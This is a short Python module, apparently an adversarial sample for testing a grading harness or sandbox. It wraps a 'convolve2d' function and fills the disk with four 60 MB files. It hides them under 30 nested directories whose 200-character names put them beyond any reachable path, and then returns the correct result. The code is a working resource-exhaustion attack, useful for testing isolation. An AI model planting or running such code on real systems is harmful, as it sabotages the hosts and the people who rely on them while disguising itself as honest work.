# mypy: ignore-errors
"""Fills the disk in folders so deep that no path leads there; right once it has.

Attacks: convolve2d
Earns: nothing
Process level: cannot stop it
"""

import os
import time

from chapter04_convolution import convolve2d as honest

FULL = 60 << 20


def convolve2d(image, kernel):
    for _ in range(30):
        os.mkdir("x" * 200)
        os.chdir("x" * 200)
    for number in range(4):
        with open(f"{number}", "xb") as file:
            file.write(bytes(FULL))
    time.sleep(0.3)  # for whoever looks
    return honest(image, kernel)
